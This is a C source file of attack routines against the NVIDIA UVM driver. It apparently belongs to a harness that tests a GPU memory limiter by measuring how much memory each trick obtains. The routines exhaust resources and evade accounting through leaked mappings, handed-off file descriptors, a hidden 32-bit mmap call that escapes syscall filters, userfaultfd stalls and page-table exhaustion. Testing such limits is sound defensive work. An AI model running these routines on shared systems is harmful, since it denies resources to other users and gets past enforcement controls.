/* Memory that UVM keeps: it takes a duplicate of what it maps. Numbers and layouts: uvm_ioctl.h, nvos.h. */
#include "attack.h"

#include <linux/userfaultfd.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>

/* uvm PIECES MEBIBYTES: memory is mapped and then freed: how many pieces can be had so? */
void attack_uvm (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, true);
    unsigned pieces = argc > 0 ? (unsigned) atoi (argv[0]) : 20, kept = 0;
    uint64_t size = (argc > 1 ? (uint64_t) atoi (argv[1]) : 1024) * MIB;

    for (unsigned i = 0; i < pieces; i++) {
        uint32_t handle, mapped;

        if (bed_memory (&bed, &handle, size) != 0)
            break;
        mapped = uvm_map (&uvm, &bed, i, handle, size);
        kept += mapped == 0;
        if (i == 0)
            say ("map", mapped);
        bed_free (&bed, handle);
    }
    say ("kept", kept);
    hold ();
    /* UVM lets go of half of them (FREE). */
    for (unsigned i = 0; i < kept / 2; i++) {
        uint64_t range[3] = { UVM_BASE + i * GIB, size, 0xffff };

        uvm_call (uvm.file, 34, range, 16);
    }
    say ("let-go", kept / 2);
    hold ();
}

/* uvm-tree: the memory goes with the device, or the client, that it is below. */
void attack_uvm_tree (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    uint32_t handle, kept = 0;

    (void) argc, (void) argv;
    for (unsigned i = 0; i < 6 && bed_memory (&bed, &handle, GIB) == 0; i++)
        kept += i % 2 == 0 && uvm_map (&uvm, &bed, i, handle, GIB) == 0;
    say ("kept", kept);
    hold ();
    say ("freed", bed_free (&bed, bed.client));
    hold ();
}

/* uvm-heir CHILDREN PIECES: each child maps what it allocates and duplicates it for a second client, of another file, which
 * goes with it or after it. It leaves its UVM file to its parent and ends. */
void attack_uvm_heir (int argc, char **argv)
{
    unsigned children = argc > 0 ? (unsigned) atoi (argv[0]) : 4, pieces = argc > 1 ? (unsigned) atoi (argv[1]) : 6;
    uint8_t kept = 0, all = 0;
    int pair[2];

    if (socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0)
        exit (4);
    for (unsigned i = 0; i < children; i++) {
        pid_t child = fork ();

        if (child == 0) {
            struct bed bed = bed_open ();
            struct uvm uvm = uvm_begin (&bed, false);
            struct bed second = bed_open ();
            uint32_t handle;

            kept = 0;
            for (unsigned k = 0; k < pieces && bed_memory (&bed, &handle, GIB) == 0; k++) {
                struct duplicate copy = { second.client, second.device, second.next++, bed.client, handle, 0, 0xffff };

                kept += uvm_map (&uvm, &bed, k, handle, GIB) == 0;
                if (i % 2 != 0)
                    ioctl (second.file, REQUEST (0x34, sizeof (copy)), &copy);
            }
            _exit (send_descriptor (pair[0], uvm.file) != 0 || write (pair[0], &kept, 1) != 1);
        }
        if (receive_descriptor (pair[1]) < 0 || read (pair[1], &kept, 1) != 1)
            exit (5);
        waitpid (child, NULL, 0);
        all += kept;
        usleep (200000);
    }
    say ("kept", all);
    hold ();
}

/* Its parent has ended: what that had is named in FREEs on another open file, which the driver refuses. */
static void free_elsewhere (const struct bed *bed, int parent, const uint32_t *handles, unsigned count)
{
    int other = open ("/dev/nvidiactl", O_RDWR | O_CLOEXEC);
    char byte;

    (void) !read (parent, &byte, 1);
    usleep (100000);
    for (unsigned k = 0; k < count; k++) {
        struct release call = { bed->client, bed->device, handles[k], 0xffff };

        ioctl (other, REQUEST (0x29, sizeof (call)), &call);
    }
    usleep (20000);
}

/* uvm-refused CHILDREN PIECES: each child maps what it allocates, leaves its UVM file to its parent and ends; a child of its own, with the client's file,
 * frees the pieces on another file, in vain, and ends. */
void attack_uvm_refused (int argc, char **argv)
{
    unsigned children = argc > 0 ? (unsigned) atoi (argv[0]) : 4, pieces = argc > 1 ? (unsigned) atoi (argv[1]) : 6;
    uint8_t kept = 0, all = 0;
    int pair[2], over[2], parent[2];
    char byte;

    if (socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0)
        exit (4);
    for (unsigned i = 0; i < children; i++) {
        pid_t child = pipe (over) != 0 ? -1 : fork ();

        if (child == 0) {
            struct bed bed = bed_open ();
            struct uvm uvm = uvm_begin (&bed, false);
            uint32_t handles[16], count = 0;

            kept = 0;
            while (count < pieces && count < 16 && bed_memory (&bed, &handles[count], GIB) == 0) {
                kept += uvm_map (&uvm, &bed, count, handles[count], GIB) == 0;
                count++;
            }
            if (send_descriptor (pair[0], uvm.file) != 0 || write (pair[0], &kept, 1) != 1 || pipe (parent) != 0)
                _exit (1);
            if (fork () == 0) {
                close (parent[1]);
                close (uvm.file);
                free_elsewhere (&bed, parent[0], handles, count);
            }
            _exit (0);
        }
        close (over[1]);
        if (receive_descriptor (pair[1]) < 0 || read (pair[1], &kept, 1) != 1)
            exit (5);
        all += kept;
        (void) !read (over[0], &byte,
                      1); /* both have ended; the first is waited for after it, for the driver reports of it until then */
        waitpid (child, NULL, 0);
        close (over[0]);
        usleep (700000);
    }
    say ("kept", all);
    hold ();
}

/* unseen: 1.5 GiB of managed memory by the first mmap of the 32-bit entry, whose arguments are in memory: no filter sees that it
 * is a shared mapping. How many pieces of 1 GiB can be had three seconds later? */
void attack_unseen (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    long mapped = -ENOSYS;

    (void) argc, (void) argv;
#ifdef __x86_64__
    uint32_t *low = mmap (NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    uint32_t place = 0x84000000;
    int status;

    /* mmap_arg_struct32 (sys_ia32.c): address, length, protection, flags, descriptor, offset. */
    memcpy (
        low,
        (uint32_t[]) { place, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, (uint32_t) uvm.file, place },
        24);
    /* A kernel without this entry ends the process that takes it. */
    pid_t child = fork ();
    if (child == 0)
        _exit (entry_32 (20, 0, 0, 0) <= 0);
    waitpid (child, &status, 0);
    if (WIFEXITED (status) && WEXITSTATUS (status) == 0)
        mapped = entry_32 (90, (long) low, 0, 0);
    mapped = (uint32_t) mapped == place ? 0 : mapped;
#endif
    say ("mapped", (uint64_t) -mapped);
    if (mapped == 0) {
        usleep (3000000);
        hold ();
    }
    say ("pieces", bed_fill (&bed));
    hold ();
}

/* uvm-child: a child that makes no call of its own maps 1.5 GiB on its parent's UVM file, and stays. What can the parent have? */
void attack_uvm_child (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    int told[2], byte;

    (void) argc, (void) argv;
    if (pipe (told) != 0)
        exit (4);
    pid_t child = fork ();
    if (child == 0) {
        void *place = mmap ((void *) UVM_BASE, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm.file,
                            (off_t) UVM_BASE);

        byte = place == MAP_FAILED ? errno : 0;
        if (write (told[1], &byte, sizeof (byte)) != sizeof (byte))
            _exit (5);
        for (;;)
            pause ();
    }
    if (read (told[0], &byte, sizeof (byte)) != sizeof (byte))
        exit (5);
    say ("mapped", (uint64_t) byte);
    let_it_be_seen ();
    say ("pieces", bed_fill (&bed));
    kill (child, SIGKILL);
    waitpid (child, NULL, 0);
    hold ();
}

static void *mapping (void *argument)
{
    int file = *(int *) argument;

    for (;;) {
        void *place = mmap (NULL, 4096, PROT_READ, MAP_SHARED, file, 4096);

        if (place == MAP_FAILED || munmap (place, 4096) != 0)
            exit (4);
    }
}

/* uvm-busy: 1.5 GiB of managed memory, while threads make other shared mappings without end, each of which is announced.
 * How many pieces of 1 GiB can be had meanwhile? */
void attack_uvm_busy (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    int file = memfd_create ("mapped", MFD_CLOEXEC);
    pthread_t thread;
    void *place;

    (void) argc, (void) argv;
    if (file < 0 || ftruncate (file, 8192) != 0)
        exit (4);
    for (unsigned i = 0; i < 4; i++)
        if (pthread_create (&thread, NULL, mapping, &file) != 0)
            exit (4);
    usleep (100000);
    place = mmap ((void *) UVM_BASE, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm.file,
                  (off_t) UVM_BASE);
    say ("mapped", place == MAP_FAILED ? (uint64_t) errno : 0);
    let_it_be_seen ();
    say ("pieces", bed_fill (&bed));
    hold ();
}

struct first {
    struct bed bed;
    struct uvm uvm;
    pid_t pid;
};

static void *without_first (void *argument)
{
    struct first *first = argument;
    char path[64], state = 0;
    uint32_t handle;

    /* The first thread has ended when the process looks like a zombie. */
    snprintf (path, sizeof (path), "/proc/%d/stat", first->pid);
    while (state != 'Z') {
        FILE *file = fopen (path, "re");

        if (file == NULL || fscanf (file, "%*d (%*[^)]) %c", &state) != 1)
            exit (4);
        fclose (file);
    }
    say ("memory", bed_memory (&first->bed, &handle, 2 * GIB));
    void *place = mmap ((void *) UVM_BASE, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, first->uvm.file,
                        (off_t) UVM_BASE);
    say ("mapped", place == MAP_FAILED ? (uint64_t) errno : 0);
    let_it_be_seen ();
    say ("pieces", bed_fill (&first->bed));
    hold ();
    exit (0);
}

/* uvm-thread: the process's first thread ends, and another one goes on: 2 GiB, 1.5 GiB of managed memory, and how many pieces
 * of 1 GiB? Of its first thread alone the kernel tells neither descriptors nor mappings any more. */
void attack_uvm_thread (int argc, char **argv)
{
    static struct first first;
    pthread_t thread;

    (void) argc, (void) argv;
    first.bed = bed_open ();
    first.uvm = uvm_begin (&first.bed, false);
    first.pid = getpid ();
    if (pthread_create (&thread, NULL, without_first, &first) != 0)
        exit (4);
    syscall (SYS_exit, 0);
}

struct slow {
    struct bed bed;
    void *page;
    atomic_bool is_mapped;
};

static void *call_with_slow_memory (void *argument)
{
    struct slow *slow = argument;

    while (!atomic_load (&slow->is_mapped))
        continue;
    ioctl (slow->bed.file, REQUEST (0x2a, sizeof (struct control)), slow->page);
    return NULL;
}

/* uvm-slow: 1.5 GiB of managed memory, and at once a call whose struct lies in a page that does not come until it is wanted: a
 * reader of it waits. Where that takes a right that is not there, the page comes at once. How many pieces of 1 GiB? */
void attack_uvm_slow (int argc, char **argv)
{
    static struct slow slow;
    struct uvm uvm;
    struct uffdio_api api = { .api = UFFD_API };
    struct uffdio_register range = { .range.len = 4096, .mode = UFFDIO_REGISTER_MODE_MISSING };
    int faults = (int) syscall (SYS_userfaultfd, O_CLOEXEC);
    pthread_t thread;
    void *place;

    (void) argc, (void) argv;
    slow.bed = bed_open ();
    uvm = uvm_begin (&slow.bed, false);
    slow.page = mmap (NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    range.range.start = (uintptr_t) slow.page;
    if (slow.page == MAP_FAILED || pthread_create (&thread, NULL, call_with_slow_memory, &slow) != 0)
        exit (4);
    if (faults >= 0 && (ioctl (faults, UFFDIO_API, &api) != 0 || ioctl (faults, UFFDIO_REGISTER, &range) != 0))
        exit (4);
    place = mmap ((void *) UVM_BASE, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm.file,
                  (off_t) UVM_BASE);
    atomic_store (&slow.is_mapped, true);
    say ("mapped", place == MAP_FAILED ? (uint64_t) errno : 0);
    hold ();
    if (faults >= 0)
        close (faults);
    pthread_join (thread, NULL);
    let_it_be_seen ();
    say ("pieces", bed_fill (&slow.bed));
    hold ();
}

/* uvm-heap: UVM keeps one piece, and another one is freed on the old way, whose answer says how much memory there is. */
void attack_uvm_heap (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    uint32_t head[46] = { bed.client, bed.device, 3, [5] = 0xffff, [12] = 1 /* MEMORY_HANDLE_PROVIDED */ }, handle;

    (void) argc, (void) argv;
    say ("memory", bed_memory (&bed, &handle, GIB));
    say ("map", uvm_map (&uvm, &bed, 0, handle, GIB));
    bed_free (&bed, handle);
    say ("other", bed_memory (&bed, &head[11], 64 * MIB));
    say ("freed", uvm_call (bed.file, REQUEST (0x4a, sizeof (head)), head, 20));
    hold ();
}

/* uvm-tables PLACES: the same system memory, in pages of 4 KiB, is mapped at as many places; what describes that lies in
 * video memory. */
void attack_uvm_tables (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    unsigned places = argc > 0 ? (unsigned) atoi (argv[0]) : 64, mapped = 0;
    struct memory params = memory_of (GIB / 2);
    uint32_t handle = bed.next++;

    params.attributes = 0x2a800000; /* PCI, pages of 4 KiB, not contiguous, cached */
    say ("memory", bed_alloc (&bed, bed.device, handle, 0x3e, &params));
    while (mapped < places && uvm_map (&uvm, &bed, mapped, handle, GIB / 2) == 0)
        mapped++;
    say ("places", mapped);
    hold ();
}
